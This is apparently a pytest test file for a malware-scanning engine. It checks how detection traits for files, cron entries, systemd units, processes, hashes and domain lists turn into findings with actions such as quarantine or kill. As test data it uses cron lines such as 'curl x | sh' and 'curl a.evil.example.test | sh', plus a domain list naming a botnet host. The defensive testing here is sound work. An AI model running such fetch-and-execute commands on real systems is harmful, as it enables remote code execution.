"""Artefacts and traits become findings."""

import re
from dataclasses import replace

import pytest

from quetsach.core.indicator_list import ListKind, parse_list
from quetsach.core.pack import ANY_RULE, Action, ArtefactKind, FileHash, Pack, Trait
from quetsach.core.text import LocalText
from quetsach.endpoint.artefact import Artefact, FileAnchor, Finding, LineAnchor, MemberAnchor, ProcessAnchor
from quetsach.endpoint.engine.boreal import BorealEngine
from quetsach.endpoint.engine.port import Hit
from quetsach.endpoint.scanner.match import Observation, TraitMatcher

WHY = LocalText("vì", "why")
FILE = Trait("program", ArtefactKind.FILE, Action.QUARANTINE, WHY, rule="bad")
CRON = Trait("cron", ArtefactKind.CRON_ENTRY, Action.REMOVE_LINE, WHY, refers_to=("program",))
WEAK = Trait(
    "weak", ArtefactKind.CRON_ENTRY, Action.REMOVE_LINE, WHY, match=(("command", "curl"),), only_with=("program",)
)
UNIT = Trait("unit", ArtefactKind.SYSTEMD_UNIT, Action.REMOVE_UNIT, WHY, refers_to=("program",))
TIMER = Trait("timer", ArtefactKind.SYSTEMD_UNIT, Action.REMOVE_UNIT, WHY, refers_to=("unit",))
PROCESS = Trait("process", ArtefactKind.PROCESS, Action.KILL, WHY, rule="bad")


def _pack(*traits: Trait, family: str = "family") -> Pack:
    return Pack(
        family=family, version="2026.01.01", name=WHY, platforms=frozenset({"linux"}), severity="high", aliases=(),
        references=(), author="a", licence="l", rules="", traits=traits, guidance=WHY, digest="",
    )  # fmt: skip


def _anchor(path: bytes) -> FileAnchor:
    return FileAnchor(path, 1, 2, 3, 4, 5, sha256="")


def _file(path: bytes, *hits: Hit) -> Observation:
    return Observation(Artefact(ArtefactKind.FILE, _anchor(path)), hits)


def _cron(command: str, *refers_to: bytes, number: int = 1) -> Observation:
    anchor = LineAnchor(_anchor(b"/etc/crontab"), number, command.encode())
    return Observation(Artefact(ArtefactKind.CRON_ENTRY, anchor, {"command": command}, refers_to))


def _unit(path: bytes, *refers_to: bytes) -> Observation:
    return Observation(Artefact(ArtefactKind.SYSTEMD_UNIT, _anchor(path), {}, refers_to))


def _found(pack: Pack, *observations: Observation) -> list[Finding]:
    return list(TraitMatcher([pack], BorealEngine()).find(observations))


HIT = Hit("family", "bad", "Author")


def test_a_rule_that_matched_a_file_is_a_finding_with_rule_and_author_as_evidence() -> None:
    [finding] = _found(_pack(FILE), _file(b"/x", HIT))
    assert (finding.trait, finding.action, finding.evidence) == ("program", Action.QUARANTINE, "bad (Author)")


@pytest.mark.parametrize("hit", [Hit("other", "bad", ""), Hit("family", "other", "")])
def test_a_hit_of_another_family_or_rule_is_none(hit: Hit) -> None:
    assert _found(_pack(FILE), _file(b"/x", hit)) == []


def test_a_line_that_names_a_found_file_is_a_finding_whichever_was_seen_first() -> None:
    line, file = _cron("/x", b"/x"), _file(b"/x", HIT)
    for order in ([line, file], [file, line]):
        assert sorted(f.trait for f in _found(_pack(FILE, CRON), *order)) == ["cron", "program"]


def test_a_line_that_names_a_file_without_a_finding_is_none() -> None:
    assert [f.trait for f in _found(_pack(FILE, CRON), _cron("/y", b"/y"), _file(b"/x", HIT))] == ["program"]


def test_references_are_followed_along_a_chain() -> None:
    timer, unit = _unit(b"/t.timer", b"/t.service"), _unit(b"/t.service", b"/x")
    found = _found(_pack(FILE, UNIT, TIMER), timer, unit, _file(b"/x", HIT))
    assert {f.trait for f in found} == {"program", "unit", "timer"}


def test_units_that_start_each_other_are_none_and_end() -> None:
    assert _found(_pack(FILE, UNIT, TIMER), _unit(b"/a", b"/b"), _unit(b"/b", b"/a")) == []


def test_a_weak_sign_counts_only_beside_a_strong_one() -> None:
    assert _found(_pack(FILE, WEAK), _cron("curl x | sh")) == []
    assert len(_found(_pack(FILE, WEAK), _cron("curl x | sh"), _file(b"/x", HIT))) == 2


def test_a_field_must_match() -> None:
    assert [f.trait for f in _found(_pack(FILE, WEAK), _cron("wget x"), _file(b"/x", HIT))] == ["program"]


def test_an_artefact_is_given_to_the_first_trait_that_it_shows() -> None:
    found = _found(_pack(FILE, CRON, WEAK), _cron("curl /x", b"/x"), _file(b"/x", HIT))
    assert [f.trait for f in found] == ["cron", "program"]
    found = _found(_pack(FILE, WEAK, CRON), _cron("curl /x", b"/x"), _file(b"/x", HIT))
    assert [f.trait for f in found] == ["weak", "program"]


def test_the_image_of_a_process_is_matched() -> None:
    process = Artefact(ArtefactKind.PROCESS, ProcessAnchor(7, 70, b"/x", deleted=True))
    [finding] = _found(_pack(PROCESS), Observation(process, (HIT,)))
    assert finding.action is Action.KILL


def test_each_pack_speaks_for_itself() -> None:
    packs = [_pack(FILE), _pack(FILE, CRON, family="other")]
    found = TraitMatcher(packs, BorealEngine()).find([_file(b"/x", HIT), _cron("/x", b"/x")])
    assert [f.family for f in found] == ["family"]


def test_identifiers_are_stable_and_tell_findings_apart() -> None:
    seen = [_file(b"/x", HIT), _cron("/x", b"/x", number=1), _cron("/x", b"/x", number=2)]
    first, again = ([f.id for f in _found(_pack(FILE, CRON), *order)] for order in (seen, seen))
    assert first == again
    assert len(set(first)) == 3
    assert all(re.fullmatch("[0-9a-f]{16}", identifier) for identifier in first)


def _named(name: str, *hits: Hit) -> Observation:
    return Observation(Artefact(ArtefactKind.FILE, _anchor(b"/x/" + name.encode()), {"name": name}), hits)


def test_a_file_is_known_by_its_hash_whichever_family_it_was_hashed_for() -> None:
    known = FileHash("md5", "ab" * 16, 100)
    trait = Trait("hash", ArtefactKind.FILE, Action.QUARANTINE, WHY, hashes=(FileHash("sha1", "0" * 40, 9), known))
    [finding] = _found(_pack(trait), _named("a", Hit("", "", "", digest=str(known))))
    assert finding.evidence == f"md5 {known.digest}"
    assert _found(_pack(trait), _named("a", Hit("", "", "", digest=f"101:{known.digest}"))) == []


def test_a_hash_alone_does_not_show_a_trait_with_a_rule() -> None:
    assert _found(_pack(FILE), _named("a", Hit("", "", "", digest="1:aa"))) == []


@pytest.mark.parametrize(
    ("platform", "name", "is_found"),
    [
        ("linux", "Bad.exe", True),
        ("linux", "bad.exe", False),
        ("windows", "BAD.EXE", True),
        ("linux", "aBad.exe", False),
    ],
)
def test_a_file_is_known_by_its_name_on_windows_in_any_case(platform: str, name: str, *, is_found: bool) -> None:
    trait = Trait("name", ArtefactKind.FILE, Action.REPORT, WHY, names=("other", "Bad.exe"))
    found = TraitMatcher([_pack(trait)], BorealEngine(), platform=platform).find([_named(name)])
    assert [finding.evidence for finding in found] == ([f"name: {name}"] if is_found else [])


MEMBER = Observation(Artefact(ArtefactKind.FILE, MemberAnchor(_anchor(b"/x.zip"), (b"in",)), {"name": "in"}), (HIT,))


def test_what_lies_in_an_archive_is_found_and_nothing_rests_on_it() -> None:
    found = _found(_pack(FILE, CRON, WEAK), MEMBER, _cron("tar cf /x.zip", b"/x.zip"), _cron("curl", number=2))
    assert [(finding.trait, finding.artefact.anchor) for finding in found] == [("program", MEMBER.artefact.anchor)]


def test_members_of_an_archive_and_the_archive_itself_have_identifiers_of_their_own() -> None:
    other = Observation(Artefact(ArtefactKind.FILE, MemberAnchor(_anchor(b"/x.zip"), (b"i", b"n"))), (HIT,))
    assert len({finding.id for finding in _found(_pack(FILE), MEMBER, other, _file(b"/x.zip", HIT))}) == 3


def test_what_an_archive_is_as_a_whole_can_be_tested() -> None:
    trait = Trait("bomb", ArtefactKind.FILE, Action.REPORT, WHY, match=(("archive", "^bomb$"),))
    bomb = Observation(Artefact(ArtefactKind.FILE, _anchor(b"/x.zip"), {"archive": "bomb"}))
    assert [finding.evidence for finding in _found(_pack(trait), bomb, _named("a"))] == ["archive: bomb"]


def test_what_is_only_in_memory_shows_only_traits_of_memory() -> None:
    seen = Hit("family", "bad", "", in_memory=True)
    process = Observation(Artefact(ArtefactKind.PROCESS, ProcessAnchor(1, 2, b"/x", deleted=False)), (seen,))
    assert _found(_pack(PROCESS), process) == []
    [finding] = _found(_pack(replace(PROCESS, memory=True)), process)
    assert finding.evidence == "bad, in memory"


def test_a_file_to_be_cut_off_says_where() -> None:
    trait = replace(FILE, action=Action.TRUNCATE)
    [finding] = _found(_pack(trait), _file(b"/x", Hit("other", "bad", "", cut=1), replace(HIT, cut=70)))
    assert finding.artefact.fields["cut"] == "70"
    assert _found(_pack(trait), _file(b"/x", HIT))[0].artefact.fields["cut"] == ""


NAMED = Trait("named", ArtefactKind.FILE, Action.QUARANTINE, WHY, match=(("path", "^/tmp/"),), named_by=("known-cron",))
KNOWN_CRON = Trait("known-cron", ArtefactKind.CRON_ENTRY, Action.REMOVE_LINE, WHY, match=(("command", "upd -B"),))


def _named_file(path: bytes) -> Observation:
    return Observation(Artefact(ArtefactKind.FILE, _anchor(path), {"path": path.decode()}))


def test_a_file_that_a_found_line_names_is_a_finding_with_that_line_as_evidence() -> None:
    line = _cron("/tmp/a upd -B", b"/tmp/a", b"/bin/sh")
    for order in ([line, _named_file(b"/tmp/a")], [_named_file(b"/tmp/a"), line]):
        findings = {f.trait: f.evidence for f in _found(_pack(NAMED, KNOWN_CRON), *order)}
        assert findings == {"known-cron": "command: /tmp/a upd -B", "named": "path: /tmp/a; ← /etc/crontab"}


def test_a_file_that_only_an_honest_line_names_or_that_lies_elsewhere_is_none() -> None:
    honest, known = _cron("/tmp/a", b"/tmp/a"), _cron("/bin/sh upd -B", b"/bin/sh", number=2)
    found = _found(_pack(NAMED, KNOWN_CRON), honest, known, _named_file(b"/tmp/a"), _named_file(b"/bin/sh"))
    assert [f.trait for f in found] == ["known-cron"]


def test_only_files_that_findings_name_are_asked_for() -> None:
    matcher = TraitMatcher([_pack(NAMED, KNOWN_CRON)], BorealEngine())
    findings = matcher.find([_cron("/tmp/a upd -B", b"/tmp/a"), _cron("/tmp/b", b"/tmp/b", number=2)])
    assert matcher.wanted(findings) == {b"/tmp/a"}
    assert TraitMatcher([_pack(KNOWN_CRON)], BorealEngine()).wanted(findings) == frozenset()


BESIDE = Trait(
    "part",
    ArtefactKind.FILE,
    Action.QUARANTINE,
    WHY,
    names=("part.dll", "other.dll"),
    match=(("path", "(?i)^/Windows/System32/p"),),
    only_with=("known-cron", "program"),
)


@pytest.mark.parametrize(
    ("platform", "seen", "asked"),
    [
        ("windows", _cron("/tmp/a upd -B"), {b"/Windows/System32/part.dll"}),
        ("linux", _cron("/tmp/a upd -B"), set()),
        ("windows", _file(b"/x", HIT), set()),  # a scan of some folders finds files only, and looks at no others
    ],
)
def test_a_name_is_asked_for_in_the_folder_of_windows_beside_a_foothold(
    platform: str, seen: Observation, asked: set[bytes]
) -> None:
    matcher = TraitMatcher([_pack(FILE, BESIDE, KNOWN_CRON)], BorealEngine(), platform=platform)
    findings = matcher.find([seen])
    assert len(findings) == 1
    assert matcher.wanted(findings) == asked


def test_any_rule_of_a_pack_is_a_finding_with_whose_it_is_and_on_what_terms() -> None:
    any_rule = Trait("rule", ArtefactKind.FILE, Action.REPORT, WHY, rule=ANY_RULE)
    hits = Hit("family", "one", "Some One", credit="DRL 1.1, https://example.org/r"), Hit("family", "two", "")
    [finding] = _found(_pack(any_rule), _file(b"/x", *hits, Hit("other", "three", "")))
    assert finding.evidence == "one (Some One; DRL 1.1, https://example.org/r); two (a; l)"


def test_what_the_author_of_a_rule_calls_himself_cannot_deceive_a_terminal() -> None:
    any_rule = Trait("rule", ArtefactKind.FILE, Action.REPORT, WHY, rule=ANY_RULE)
    [finding] = _found(_pack(any_rule), _file(b"/x", Hit("family", "one", "\x1b[2J" + "x" * 500)))
    assert finding.evidence.startswith("one (\\x1b[2Jx")
    assert len(finding.evidence) < 120


def test_a_listed_hash_is_a_finding_that_says_what_its_list_calls_it() -> None:
    entries = f"*:{'0' * 32} Win.A\nsection:512:{'1' * 40}"
    trait = Trait("hash", ArtefactKind.FILE, Action.REPORT, WHY, hash_list=parse_list(ListKind.HASHES, entries))
    found = _found(
        _pack(trait),
        _file(b"/x", Hit("", "", "", digest=f"*:{'0' * 32}")),
        _file(b"/y", Hit("", "", "", digest=f"section:512:{'1' * 40}")),
        _file(b"/z", Hit("", "", "", digest=f"*:{'2' * 32}")),
    )
    assert [f.evidence for f in found] == [f"md5 {'0' * 32} (Win.A)", f"section sha1 {'1' * 40}"]


def test_a_field_that_names_an_entry_of_a_list_is_a_finding() -> None:
    known = parse_list(ListKind.DOMAINS, "evil.example.test botnet")
    trait = Trait("cron", ArtefactKind.CRON_ENTRY, Action.REPORT, WHY, listed=(("command", known),))
    found = _found(_pack(trait), _cron("curl a.evil.example.test | sh"), _cron("curl example.test", number=2))
    assert [f.evidence for f in found] == ["command: evil.example.test (botnet)"]
